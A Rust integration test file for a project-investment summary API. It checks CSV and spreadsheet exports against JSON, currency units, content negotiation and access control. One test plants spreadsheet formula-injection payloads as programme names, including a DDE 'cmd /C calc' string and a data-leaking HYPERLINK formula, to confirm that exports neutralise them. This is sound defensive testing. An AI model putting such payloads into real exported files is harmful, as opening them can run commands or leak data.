//! Tables for people: the numbers of the JSON, as CSV and as a spreadsheet, and nothing that is run when they are opened.

use std::collections::BTreeSet;
use std::io::Cursor;

use calamine::{Data, DataType, Range, Reader, Xlsx};
use reqwest::Method;
use serde_json::{Value, json};
use taizhang::auth::Role;
use taizhang::print::negotiate::{CSV, PRINTABLE, XLSX};

use crate::support::contract::CONTRACT;
use crate::support::library::{add_account, day, fen, fields, id, with};
use crate::support::{Client, Reply, Server};

const DAWA: &str = "211104";
/// How many columns follow those of the dimensions.
const MEASURES: usize = 10;

/// Asks for a form of an answer, in English.
async fn asked(client: &Client, path: &str, accept: &str) -> Reply {
    let request = client.request(Method::GET, path).header("accept", accept);
    request.english().send().await
}

/// The lines of a CSV file.
fn lines(reply: &Reply) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(&reply.bytes).unwrap();
    let text = text.strip_prefix('\u{FEFF}').expect("a byte order mark");
    assert!(text.ends_with("\r\n"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let records = reader.records().map(|record| record.unwrap());
    records
        .map(|record| record.iter().map(str::to_owned).collect())
        .collect()
}

/// A table as it was printed.
struct Printed {
    headings: Vec<String>,
    rows: Vec<Vec<String>>,
    total: Vec<String>,
    notes: Vec<String>,
}

impl Printed {
    fn of(reply: &Reply) -> Self {
        let mut lines = lines(reply);
        let headings = lines.remove(0);
        let is_row = |line: &Vec<String>| line.len() == headings.len();
        let end = lines.iter().position(|line| !is_row(line)).unwrap();
        let notes = lines.split_off(end).into_iter().flatten().collect();
        let total = lines.pop().unwrap();
        Self {
            headings,
            rows: lines,
            total,
            notes,
        }
    }
}

/// The one sheet of a spreadsheet.
fn sheet(reply: &Reply) -> Range<Data> {
    let mut book = Xlsx::new(Cursor::new(reply.bytes.clone())).unwrap();
    let [name] = &book.sheet_names()[..] else {
        panic!("one sheet: {:?}", book.sheet_names());
    };
    let name = name.clone();
    assert!(book.worksheet_formula(&name).unwrap().is_empty());
    book.worksheet_range(&name).unwrap()
}

/// A sum in 元 as JSON tells it, or nothing where it is of no project.
fn amount(measures: &Value, of: &str) -> String {
    match measures[of]["count"].as_u64().unwrap() {
        0 => String::new(),
        _ => measures[of]["sum"].as_str().unwrap().to_owned(),
    }
}

/// A sum of figures as JSON tells it, or nothing where none was told.
fn figure(measures: &Value, of: &str) -> String {
    match measures["told"][of].as_u64().unwrap() {
        0 => String::new(),
        _ => measures[of].as_str().unwrap().to_owned(),
    }
}

/// What JSON says of a cell or a total, as a row of a table in 元 has it behind the dimensions.
fn told(measures: &Value) -> [String; MEASURES] {
    let count = |value: &Value| value.as_u64().unwrap().to_string();
    [
        count(&measures["count"]),
        count(&measures["exact"]["count"]),
        amount(measures, "exact"),
        count(&measures["floor"]["count"]),
        amount(measures, "floor"),
        count(&measures["undetermined"]),
        figure(measures, "annual_plan"),
        figure(measures, "completed_in_year"),
        figure(measures, "completed_total"),
        figure(measures, "funds_received"),
    ]
}

/// 元 as 万元, rounded half up to two decimals.
fn wan(yuan: &str) -> String {
    if yuan.is_empty() {
        return String::new();
    }
    let rounded = (fen(yuan) + 5_000) / 10_000;
    format!("{}.{:02}", rounded / 100, rounded % 100)
}

/// Some projects with odd amounts beside the catalogue, and a manager who sees all.
async fn library() -> (Server, Client) {
    let server = Server::demo().await;
    let manager = server.sign_in("manager").await;
    for (name, amount) in [
        ("舍入甲", json!({ "exact": "12345678.91" })),
        ("舍入乙", json!({ "exact": "50000050.00" })),
        ("舍入丙", json!({ "floor": "49.99" })),
        ("舍入丁", Value::Null),
    ] {
        let amount = json!({ "total_investment": amount });
        let made = manager.register(&with(fields(name, DAWA), &amount)).await;
        let plan = json!({ "planned_investment": "1234567.89" });
        let path = format!("/v1/projects/{}/plan-years/2025", id(&made));
        let plan = manager.put(&path, &plan).if_none();
        plan.send().await.expect(201);
        let month = json!({ "completed": "7654321.05", "funds_received": "0.00" });
        let path = format!("/v1/projects/{}/investment/2025/3", id(&made));
        let month = manager.put(&path, &month).if_none();
        month.send().await.expect(201);
    }
    (server, manager)
}

#[tokio::test]
async fn csv_says_what_json_says() {
    let (_server, manager) = library().await;
    for (question, dimensions) in [
        ("?group_by=tier,stage&year=2025", 2),
        ("?group_by=region&year=2025", 1),
        ("?group_by=list", 1),
        ("?group_by=programme,unit&level=part", 2),
        ("?group_by=tier&q=舍入", 1),
        ("?year=2025", 1),
    ] {
        let path = format!("/v1/summary{question}");
        let json = manager.get(&path).await.expect(200);
        let mark = if question.contains('?') { '&' } else { '?' };
        let path = format!("{path}{mark}money_unit=yuan");
        let csv = Printed::of(&asked(&manager, &path, CSV).await.expect(200));
        let cells = json.at("/cells").as_array().unwrap();
        assert_eq!(csv.headings.len(), dimensions + MEASURES + 1, "{path}");
        assert_eq!(csv.rows.len(), cells.len(), "{path}");
        for (row, cell) in csv.rows.iter().zip(cells) {
            let (measures, link) = row[dimensions..].split_at(MEASURES);
            assert_eq!(measures, told(cell), "{path}: {row:?}");
            assert_eq!(link, [cell["projects"].as_str().unwrap()]);
        }
        assert_eq!(csv.total[0], "Total");
        let (measures, link) = csv.total[dimensions..].split_at(MEASURES);
        assert_eq!(measures, told(json.at("/total")), "{path}");
        assert_eq!(link, [json.str("/projects")]);
        let adds_up = csv.notes.iter().any(|note| note.contains("several lists"));
        assert_eq!(adds_up, question.contains("list"), "{:?}", csv.notes);
    }
}

#[tokio::test]
async fn a_spreadsheet_says_it_in_numbers() {
    let (_server, manager) = library().await;
    let path = "/v1/summary?group_by=tier,region&year=2025";
    let json = manager.get(path).await.expect(200);
    let reply = asked(&manager, path, XLSX).await.expect(200);
    let range = sheet(&reply);
    assert_eq!(range.start(), Some((0, 0)));
    let rows: Vec<&[Data]> = range.rows().collect();
    let cells = json.at("/cells").as_array().unwrap();
    let below = rows.len() - cells.len() - 1;
    let text = |cell: &Data| cell.to_string();
    assert_eq!(text(&rows[0][0]), "Major projects, added up");
    assert_eq!(text(&rows[below - 1][0]), "Tier");
    assert_eq!(text(&rows[below - 1][4]), "Exact amounts (10,000 CNY)");
    let measures = cells.iter().chain([json.at("/total")]);
    for (row, measures) in rows[below..].iter().zip(measures) {
        let expected = told(measures);
        for (place, expected) in expected.iter().enumerate() {
            let is_amount = [2, 4, 6, 7, 8, 9].contains(&place);
            let expected = if is_amount {
                wan(expected)
            } else {
                expected.clone()
            };
            let expected = match expected.as_str() {
                "" => Data::Empty,
                number => Data::Float(number.parse().unwrap()),
            };
            assert_eq!(row[2 + place], expected, "{row:?}");
        }
        assert_eq!(
            text(&row[2 + MEASURES]),
            measures["projects"]
                .as_str()
                .unwrap_or(&json.str("/projects"))
        );
    }
    let notes: Vec<String> = rows[1..below - 1].iter().map(|row| text(&row[0])).collect();
    assert!(
        notes.iter().any(|note| note.starts_with("As of")),
        "{notes:?}"
    );
    assert!(
        notes.last().unwrap().contains("rounded half up"),
        "{notes:?}"
    );
}

#[tokio::test]
async fn what_is_not_known_is_left_empty() {
    let (_server, manager) = library().await;
    let path = "/v1/summary.csv?group_by=tier&q=舍入丁";
    let printed = Printed::of(&manager.get(path).await.expect(200));
    let [row] = &printed.rows[..] else {
        panic!("{:?}", printed.rows);
    };
    assert_eq!(row[..7], ["未定", "1", "0", "", "0", "", "1"]);
    assert_eq!(printed.total[..7], ["合计", "1", "0", "", "0", "", "1"]);
    // Nor has a project of no programme the programme nought.
    let path = "/v1/summary.csv?group_by=programme&q=舍入丁";
    let printed = Printed::of(&manager.get(path).await.expect(200));
    assert_eq!(printed.rows[0][0], "");
}

#[tokio::test]
async fn amounts_are_in_the_unit_that_is_asked_for_and_say_so() {
    let (_server, manager) = library().await;
    let base = "/v1/summary.csv?group_by=tier&q=舍入";
    for (unit, exact, floor, said, rounds) in [
        ("&money_unit=yuan", "62345728.91", "49.99", "（元）", false),
        ("&money_unit=wan", "6234.57", "0.00", "（万元）", true),
        ("", "6234.57", "0.00", "（万元）", true),
        ("&money_unit=yi", "0.62", "0.00", "（亿元）", true),
    ] {
        let printed = Printed::of(&manager.get(&format!("{base}{unit}")).await.expect(200));
        assert_eq!(
            (printed.total[3].as_str(), printed.total[5].as_str()),
            (exact, floor)
        );
        let of_amounts = printed.headings.iter().filter(|h| h.ends_with(said));
        assert_eq!(of_amounts.count(), 6, "{:?}", printed.headings);
        let note = printed.notes.last().unwrap();
        assert_eq!(note.contains("四舍五入"), rounds, "{note}");
        assert!(note.contains(said.trim_matches(['（', '）'])), "{note}");
        assert!(!printed.notes.iter().any(|note| note.contains("money_unit")));
    }
    for path in ["/v1/summary", "/v1/summary.csv", "/v1/summary.xlsx"] {
        for (unit, code) in [("dollar", "unknown_code"), ("", "empty_parameter")] {
            let reply = manager
                .get(&format!("{path}?money_unit={unit}"))
                .await
                .expect(400);
            assert_eq!(reply.error_codes(), [code], "{path}");
            assert_eq!(reply.at("/errors/0/parameter"), "money_unit");
        }
    }
}

#[tokio::test]
async fn the_form_follows_the_ending_or_else_what_is_accepted() {
    let server = Server::demo().await;
    let leader = server.sign_in("leader").await;
    let json = "application/json";
    for (path, accept, expected) in [
        ("/v1/summary", None, json),
        ("/v1/summary", Some("*/*"), json),
        ("/v1/summary", Some("application/pdf"), json),
        ("/v1/summary", Some("text/html, */*;q=0.8"), json),
        ("/v1/summary", Some("text/csv"), CSV),
        ("/v1/summary", Some("application/json;q=0.1, text/csv"), CSV),
        ("/v1/summary", Some(XLSX), XLSX),
        ("/v1/summary.csv", None, CSV),
        ("/v1/summary.csv", Some(XLSX), CSV),
        ("/v1/summary.csv?group_by=tier", Some(json), CSV),
        ("/v1/summary.xlsx", Some(json), XLSX),
    ] {
        for method in [Method::GET, Method::HEAD] {
            let mut request = leader.request(method.clone(), path);
            if let Some(accept) = accept {
                request = request.header("accept", accept);
            }
            let reply = request.send().await.expect(200);
            let sent = reply.header("content-type").unwrap();
            let what = format!("{method} {path} {accept:?}");
            assert_eq!(sent.split(';').next(), Some(expected), "{what}");
            let vary = reply.header("vary").unwrap();
            assert!(
                vary.split(", ").any(|name| name == "Accept"),
                "{what}: {vary}"
            );
            let file = reply.header("content-disposition");
            assert_eq!(file.is_some(), expected != json, "{what}");
            assert_eq!(reply.bytes.is_empty(), method == Method::HEAD, "{what}");
        }
    }
    let today = [day(0), day(1)];
    let csv = leader.get("/v1/summary.csv").await.expect(200);
    let file = csv.header("content-disposition").unwrap();
    let named = file
        .strip_prefix("attachment; filename=\"summary-")
        .unwrap();
    let named = named.strip_suffix(".csv\"").unwrap();
    // Should midnight fall between the two.
    assert!(today.iter().any(|day| day == named), "{file}");
    let notes = Printed::of(&csv).notes;
    assert!(
        notes[1].starts_with(&format!("截至：{named}T")),
        "{notes:?}"
    );
    assert!(notes[1].ends_with("+08:00"), "{notes:?}");
}

#[tokio::test]
async fn an_ending_means_nothing_where_there_is_no_table() {
    let server = Server::demo().await;
    let admin = server.sign_in("admin").await;
    // A code may end like a file.
    let unit = json!({ "name": "表格处", "region": "211100" });
    let path = "/v1/units/office.csv";
    admin.put(path, &unit).if_none().send().await.expect(201);
    let read = admin.get(path).await.expect(200);
    assert_eq!(read.str("/code"), "office.csv");
    for path in [
        "/v1/projects.csv",
        "/v1/summary.json",
        "/v1/summary.csv.csv",
        "/v1/.csv",
        "/.xlsx",
    ] {
        admin.get(path).await.expect(404);
    }
    let posted = admin.request(Method::POST, "/v1/summary.csv").send().await;
    assert_eq!(posted.status, 404);
}

#[tokio::test]
async fn headings_are_in_the_readers_language_and_values_have_names() {
    let (_server, manager) = library().await;
    let path = "/v1/summary.csv?group_by=region,stage&q=舍入甲";
    let chinese = manager.get(path).await.expect(200);
    assert_eq!(chinese.header("content-language"), Some("zh-CN"));
    let printed = Printed::of(&chinese);
    assert_eq!(printed.headings[..3], ["地区", "阶段", "项目数"]);
    assert_eq!(printed.rows[0][..2], ["大洼区", "谋划"]);
    assert!(
        printed.notes.iter().any(|note| note == "筛选：q=舍入甲"),
        "{:?}",
        printed.notes
    );
    let english = manager.request(Method::GET, path).english();
    let english = english.send().await.expect(200);
    assert_eq!(english.header("content-language"), Some("en"));
    let printed = Printed::of(&english);
    assert_eq!(printed.headings[..3], ["Region", "Stage", "Projects"]);
    assert_eq!(printed.rows[0][..2], ["大洼区", "planning"]);
}

/// Whether a spreadsheet that opens this as CSV would take it for a formula.
fn is_formula(field: &str) -> bool {
    let seen = field.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    let is_number = field.trim_end_matches('%').parse::<f64>().is_ok();
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number
}

#[tokio::test]
async fn a_name_is_never_a_formula() {
    let server = Server::demo().await;
    let (admin, manager) = (
        server.sign_in("admin").await,
        server.sign_in("manager").await,
    );
    let names = [
        "=HYPERLINK(\"http://example.org?\"&A1,\"x\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "＝1+1",
        "－1",
        "\"=1+1\"",
        "名称,=1+1",
    ];
    for (number, name) in names.iter().enumerate() {
        let code = format!("formula-{number}");
        let path = format!("/v1/programmes/{code}");
        let made = admin.put(&path, &json!({ "name": name })).if_none();
        made.send().await.expect(201);
        let of_it = json!({ "programme": code, "name": name });
        manager.register(&with(fields("", DAWA), &of_it)).await;
    }
    // What is asked for stands in the notes.
    let path = "/v1/summary?group_by=programme&money_unit=yuan";
    for question in ["", "&q=%3D1%2B1", "&q=-2%2B3"] {
        let path = format!("{path}{question}");
        let csv = asked(&manager, &path, CSV).await.expect(200);
        let lines = lines(&csv);
        let formulas: Vec<&String> = lines.iter().flatten().filter(|f| is_formula(f)).collect();
        assert!(formulas.is_empty(), "{path}: {formulas:?}");
        let printed = Printed::of(&csv);
        let xlsx = sheet(&asked(&manager, &path, XLSX).await.expect(200));
        let texts: BTreeSet<String> = xlsx
            .cells()
            .filter_map(|(_, _, cell)| cell.get_string())
            .map(str::to_owned)
            .collect();
        for name in names.iter().filter(|_| question.is_empty()) {
            assert!(texts.contains(*name), "as it is in a spreadsheet: {name}");
            let shown = printed
                .rows
                .iter()
                .map(|row| row[0].trim_start_matches('\''));
            assert_eq!(shown.filter(|shown| shown == name).count(), 1, "{name}");
        }
    }
}

#[tokio::test]
async fn a_table_shows_what_its_reader_may_see_and_is_the_same_operation() {
    let (server, manager) = library().await;
    add_account(&server, "dawa", Role::Officer, Some(DAWA)).await;
    let officer = server.sign_in("dawa").await;
    let path = "?group_by=region&money_unit=yuan";
    let json = officer.get(&format!("/v1/summary{path}")).await.expect(200);
    let ending = format!("/v1/summary.csv{path}");
    let mine = officer.request(Method::GET, &ending).english();
    let mine = Printed::of(&mine.send().await.expect(200));
    assert_eq!(mine.total[1..=MEASURES], told(json.at("/total")));
    assert!(
        mine.rows.iter().all(|row| row[0] == "大洼区"),
        "{:?}",
        mine.rows
    );
    assert!(
        mine.notes
            .iter()
            .any(|note| note.contains("that you may see"))
    );
    let all = Printed::of(&manager.get(&ending).await.expect(200));
    assert_ne!(all.total[1], mine.total[1]);

    let nobody = server.anonymous().get(&ending).await.expect(401);
    assert_eq!(nobody.str("/instance"), "/v1/summary");
    let admin = server.sign_in("admin").await;
    let refused = admin.get(&ending).await.expect(403);
    assert_eq!(refused.code(), "forbidden");
    let auditor = server.sign_in("auditor").await;
    let denied = auditor.get("/v1/audit?result=denied").await.expect(200);
    assert_eq!(denied.str("/items/0/subject"), "operation/GET /v1/summary");
    let unknown = officer.get("/v1/summary.csv?colour=red").await.expect(400);
    assert_eq!(unknown.error_codes(), ["unknown_parameter"]);
}

#[tokio::test]
async fn two_equal_tables_are_equal_files() {
    let (_server, manager) = library().await;
    let now = chrono::Utc::now().format("%Y-%m-%dT%H:%M:%S%.6fZ");
    for form in ["csv", "xlsx"] {
        let path = format!("/v1/summary.{form}?group_by=tier,stage&as_of={now}");
        let first = manager.get(&path).await.expect(200);
        let second = manager.get(&path).await.expect(200);
        assert!(!first.bytes.is_empty());
        assert!(first.bytes == second.bytes, "{form}");
    }
}

#[test]
fn the_contract_declares_tables_where_there_are_some() {
    let paths = CONTRACT["paths"].as_object().unwrap();
    let content = |item: &Value| item["get"]["responses"]["200"]["content"].clone();
    let declared: BTreeSet<&str> = paths
        .iter()
        .filter(|(_, item)| content(item).get(CSV).is_some())
        .map(|(path, _)| path.as_str())
        .collect();
    assert_eq!(declared, PRINTABLE.into());
    for path in PRINTABLE {
        let operation = &paths[path]["get"];
        assert!(content(&paths[path]).get(XLSX).is_some(), "{path}");
        let parameters = operation["parameters"].as_array().unwrap();
        assert!(
            parameters.iter().any(|p| p["name"] == "money_unit"),
            "{path}"
        );
        let said = operation["description"].as_str().unwrap();
        assert!(said.contains(".csv") && said.contains(".xlsx"), "{path}");
    }
}
